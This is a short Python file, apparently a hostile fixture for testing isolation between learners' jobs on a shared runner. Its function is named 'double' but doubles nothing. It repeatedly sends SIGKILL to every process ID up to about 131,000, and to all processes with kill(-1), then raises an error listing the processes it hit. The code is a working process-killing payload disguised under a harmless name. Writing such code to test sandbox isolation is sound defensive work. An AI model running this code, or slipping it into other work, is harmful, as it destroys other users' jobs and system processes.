# A hostile toy.py run beside another learner's job: signal every process it can name.
import os
import signal
import time


def double(x):
    hit = []
    for _ in range(3):
        for pid in range(2, 4 * 2**15):
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                    hit.append(pid)
                except OSError:
                    pass
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        time.sleep(0.2)
    raise RuntimeError(f"signalled {sorted(set(hit))[:20]}")
